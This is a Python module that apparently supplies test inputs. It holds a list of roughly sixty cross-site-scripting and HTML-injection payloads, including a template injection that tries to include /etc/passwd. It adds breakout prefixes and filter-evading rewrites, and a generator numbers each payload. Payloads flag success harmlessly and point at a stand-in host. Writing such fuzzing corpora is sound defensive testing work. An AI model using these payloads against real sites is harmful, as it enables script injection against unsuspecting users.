"""What is put into texts, notes, names and settings to make a page run, load or ask something it should not."""

import html
import re
from collections.abc import Callable
from itertools import islice
from random import Random
from urllib.parse import quote

MARK = "window.__ran=1"
OUTSIDE = "https://weg.example/x"
PAYLOADS = (
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"<script src={OUTSIDE}></script>",
    f"<img src=x onerror={MARK}>",
    f"<img src={OUTSIDE}>",
    f'"><img src=x onerror={MARK}>',
    f"'><img src=x onerror={MARK}>",
    f"` onerror={MARK} x=`",
    f'" onmouseover="{MARK}" autofocus onfocus="{MARK}',
    f"' onfocus='{MARK}' autofocus x='",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s></svg>",
    f"<math><mtext></p><script>{MARK}</script>",
    f"<iframe src=javascript:{MARK}>",
    "<iframe srcdoc='<script>top.__ran=1</script>'>",
    f"<object data={OUTSIDE}>",
    f"<embed src={OUTSIDE}>",
    f"<link rel=stylesheet href={OUTSIDE}>",
    f"<style>@import url({OUTSIDE})</style>",
    f"<div style=background:url({OUTSIDE})>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<base href={OUTSIDE}>",
    f"<form action={OUTSIDE}><button autofocus>",
    f"<details open ontoggle={MARK}>",
    f"<body onload={MARK}>",
    f"<video src={OUTSIDE} autoplay>",
    f"<input autofocus onfocus={MARK}>",
    f"<a href=javascript:{MARK}>x</a>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<template><script>{MARK}</script></template>",
    f"<!--><script>{MARK}</script>-->",
    f"<![CDATA[<script>{MARK}</script>]]>",
    f"<scr<script>ipt>{MARK}</script>",
    f"\u2028</p><script>{MARK}</script>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"\x01javascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:{MARK}",
    "//weg.example/x",
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    f"${{{MARK}}}",
    f"';{MARK};//",
    f'";{MARK};//',
    f'\\";{MARK};//',
    f"*/{MARK}/*",
    f"}}</style><script>{MARK}</script>",
    f"expression({MARK})",
    f"]]><script>{MARK}</script>",
    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{MARK}</x:script>",
    f"<p hidden popover=auto id=note onbeforetoggle={MARK}>",
    f"<button popovertarget=note command=show-popover onclick={MARK} autofocus>x</button>",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
    "<a id=__ran></a><form id=document><input name=cookie></form>",
    f"<img name=currentScript><a id=kantlijn href={OUTSIDE}>x</a>",
)

WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "` ",
    "-->",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</template>",
    "</svg>",
    "</p></article>",
    "]]>",
    '\\"',
    "*/",
    "}}",
    "&quot;>",
    "&#34;>",
    "\u2028",
    '"}]}',
)
"""What would end the place where a text stands: an attribute, a comment, an element, a value of JSON or CSS."""
TAG = re.compile(r"<(/?)([a-z]\w*)")
WRITINGS: tuple[Callable[[str], str], ...] = (
    str,
    lambda text: TAG.sub(lambda found: f"<{found[1]}{found[2].upper()}", text),
    lambda text: TAG.sub(lambda found: f"<{found[1]}{found[2].title()}", text),
    lambda text: re.sub(r"(<\w+) (\w)", r"\1/\2", text),
    lambda text: re.sub(r"(<\w+) (\w)", "\\1\x0c\\2", text),
    lambda text: text.replace("<", "<<", 1),
    html.escape,
    quote,
    lambda text: text.replace("=", " = ", 1),
)
"""Ways of writing the same, some of which a reader that looks for others lets pass."""
DIALOG = "alert(1)"


def generated(count: int) -> tuple[str, ...]:
    """Give so many different payloads, each with its number in what it would run or ask: first those above."""
    random = Random(count)  # noqa: S311 (no secret)
    found = dict.fromkeys(PAYLOADS)
    while len(found) < count:
        tried = random.choice(PAYLOADS)
        tried = random.choice((tried, tried, tried.replace(MARK, DIALOG)))
        found[random.choice(WAYS_OUT) + random.choice(WRITINGS)(tried)] = None
    return tuple(numbered(payload, number) for number, payload in enumerate(islice(found, count), start=1))


def numbered(payload: str, number: int) -> str:
    """Give a payload that tells its number where it succeeds, and has it in any case: no two may be one name."""
    mine = payload.replace(MARK, f"window.__ran={number}").replace(DIALOG, f"alert({number})")
    mine = mine.replace(OUTSIDE, f"https://weg.example/{number}")
    return mine if str(number) in mine else f"{mine} {number}"
